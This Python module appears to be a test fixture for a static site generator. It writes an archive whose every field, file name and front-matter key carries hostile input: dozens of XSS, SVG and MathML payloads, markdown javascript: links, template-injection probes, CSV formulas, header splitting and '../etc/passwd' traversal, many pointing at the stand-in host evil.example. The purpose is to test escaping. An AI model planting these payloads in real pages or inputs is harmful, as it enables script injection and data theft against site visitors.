"""An archive in which every field that a stranger could fill tries to become script, markup, an address or a record."""

from __future__ import annotations

import json
from collections.abc import Iterator

import yaml

HOST = "evil.example"
"""No page may ask it for anything."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></template><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)//--></script>",
    '" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' style='position:fixed;inset:0' x='",
    "` onmouseover=`alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<image src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table background=javascript:alert(1)><tr style='x:expression(alert(1))'><td onclick=alert(1)>x",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style=\"width:expression(alert(1));animation:x\" onanimationstart=alert(1)>x</div>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/y)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel='prefetch dns-prefetch preconnect' href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=//evil.example/x.png src=//evil.example/x.mp4 autoplay></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
    "<form action=//evil.example/><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=search><input name=action></form><a id=currentScript name=x>clobber</a>",
    "<x-x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x-x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)' target=_blank ping=//evil.example/>x</a>",
    "<a href=\"javas\u00adcript:alert(1)\">x</a>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x][x] ![x][x]",
    "[x](JaVaScRiPt&colon;alert(1)) [x](java&NewLine;script:alert(1)) [x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:alert(1))",
    "![x](//evil.example/x.png) ![x](https://evil.example/x.png \"onerror=alert(1)\")",
    "![\"onerror=\"alert(1)](media/x.png) ![x](media/x.png\"onerror=\"alert(1))",
    "[x](http://a \"t\\\"><script>alert(1)</script>\") [x](<http://a\" onclick=\"alert(1)>)",
    "# <img src=x onerror=alert(1)>\n\n> <svg onload=alert(1)>\n\n- <script>alert(1)</script>",
    "```\"onclick=alert(1)\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1\"><script>alert(1)</script>]\n\n[^1\"><script>alert(1)</script>]: <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039script\u203aalert(1) \u02bb><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt> \x0e0\x0f<b>\x10 \x11javascript:alert(1)",
    "\u2028<script>alert(1)</script>\u2029 \ufeff\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7*7 }} {{7*7}}",
    "{% for x in range(9) %}{{ x }}{% endfor %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "[[7*7]] {{constructor.constructor('alert(1)')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {% include '/etc/passwd' %} {% raw %}",
    "=HYPERLINK(\"http://evil.example/\",\"x\") +1 -1 @SUM(1)",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "..\\..\\..\\windows ../../../etc/passwd %2e%2e%2f %00 CON NUL aux.html",
    "x}, url = {http://evil.example/}}\n@article{y, title = {z}",
    "x\r\nER  - \r\nTY  - NEWS\r\nTI  - z",
    "/x https://evil.example/ 301\n/* https://evil.example/ 301!",
    "constructor", "__proto__", "toString", "hasOwnProperty",
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "//evil.example/", "\\\\evil.example\\x",
    "https://evil.example/\"><script>alert(1)</script>", "https://evil.example/' onclick='alert(1)",
    "http:javascript:alert(1)",
    "https://evil.example/\r\nX: y", "https:/\\/evil.example", "feed:javascript:alert(1)", "blob:https://evil.example/x",
)  # fmt: skip


def records() -> Iterator[dict[str, object]]:
    """JSONL: each script in one field of every kind, the addresses in turn."""
    for number, script in enumerate(SCRIPTS):
        other = SCRIPTS[(number * 7 + 3) % len(SCRIPTS)]
        address = ADDRESSES[number % len(ADDRESSES)]
        yield {
            "id": f"{number:03d}{script}" if number % 2 else f"record {number}",
            "title": script,
            "date": f"19{60 + number % 4}-0{number % 9 + 1}-11",
            "text": f"Harbour words first. {other}\n\n{script}\n\nNeil Armstrong saw {script} in Oslo.",
            "url": address,
            "source": {"name": other, "url": address},
            "authors": [script, other],
            "language": script if number % 3 else "en",
            "tags": [script, "plain tag"],
            "entities": [
                {"name": script, "kind": ("person", "place", "organization")[number % 3]},
                {"name": "Neil Armstrong", "kind": "person"},
                {"name": other, "kind": script if number % 5 == 0 else "place"},
            ],
            f"extra {script}": {script: [script]},
        }


def pages() -> Iterator[tuple[str, str]]:
    """Pages by hand: the scripts as Markdown and raw HTML of bodies, several to a page, and in all of front matter."""
    for number in range(0, len(SCRIPTS), 3):
        some = SCRIPTS[number : number + 3]
        script, address = some[0], ADDRESSES[number // 3 % len(ADDRESSES)]
        fields = {
            "title": script,
            "date": f"1971-0{number % 9 + 1}-0{number % 8 + 1}",
            "updated": script,
            "authors": list(some),
            "source": {"name": script, "url": address, "file": f"../{script}"},
            "language": script,
            "permalink": f"/1971/{script}/" if number % 2 else f"/1971/page-{number}/",
            "aliases": [f"/old/{number}/{script}/", address, f"/old/{number} https://evil.example/ 301!"],
            "people": [{"name": script, "as": [some[-1]]}, "Neil Armstrong"],
            "tag": [{"name": some[-1], "kind": script}],
            "tags": list(some),
            "status": "published",
            "copies": [script],
            script: {script: script},
        }
        header = yaml.safe_dump(fields, allow_unicode=False, sort_keys=False, width=10_000)
        yield f"1971/hand-{number}.md", f"---\n{header}---\n" + "\n\n".join(["Neil Armstrong again.", *some]) + "\n"
    for number, script in enumerate(SCRIPTS):
        if script.startswith("<"):
            yield f"1972/raw-{number}.md", f"---\ndate: 1972-01-01\npeople: [Neil Armstrong]\n---\n{script}\n"


def judgements() -> str:
    """`entities.yaml`: names, aliases and links that attack; what is no link, or no slug, is refused on reading."""

    def links() -> dict[str, str]:
        values = (
            "Q1;javascript",
            "https://evil.example/x",
            "https://evil.example/?a=alert(1)",
            "Q1&quot;onclick=alert(1)",
        )
        return dict(zip(("wikidata", "website", "viaf", "other"), values, strict=True))

    entries = [
        {"name": "Neil Armstrong", "kind": "person", "aliases": list(SCRIPTS[:9]), "links": links()},
        {"name": SCRIPTS[14], "kind": "person", "was": ["x-y"], "not": [SCRIPTS[15]]},
        {"name": SCRIPTS[22], "kind": "place", "links": links()},
        {"name": SCRIPTS[30], "kind": "organization", "aliases": [SCRIPTS[31]]},
    ]
    return yaml.safe_dump(entries, allow_unicode=True, sort_keys=False, width=10_000)


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
    '<image href="http://evil.example/x.png"/><circle r="9"/></svg>'
)


def files() -> dict[str, str | bytes]:
    """The whole archive."""
    settings = {
        "title": SCRIPTS[6] + SCRIPTS[3],
        "description": SCRIPTS[3] + SCRIPTS[11],
        "base_url": "https://example.org/archive/",
    }
    toml = "".join(f"{key} = {json.dumps(value)}\n" for key, value in settings.items())
    names = [script for script in SCRIPTS if len(script) < 60 and not set(script) & set("/\0\r\n\\")]
    return {
        "sitegen.toml": toml + "[entities]\nmin_articles = 1\n[search]\nfile_urls = true\n",
        "content/entities.yaml": judgements(),
        "content/raw/all.jsonl": "".join(json.dumps(record) + "\n" for record in records()),
        "content/pages/about.md": f"---\ntitle: {json.dumps(SCRIPTS[14])}\n---\n{SCRIPTS[0]}\n\n![](media/plain.svg)\n",
        **{f"content/articles/{path}": text for path, text in pages()},
        **{f"content/articles/1973/{name}.md": f"# {name}\n\nA file with a name.\n" for name in names},
        **{f"content/media/{name}.txt": "x" for name in names},
        **{f"content/raw/{name}.txt": f"date 1974-01-01\n\n{name}\n\nA text of {name}.\n" for name in names},
        "content/media/hostile.svg": SVG,
        "content/media/plain.svg": '<svg xmlns="http://www.w3.org/2000/svg"><circle r="9"/></svg>',
    }
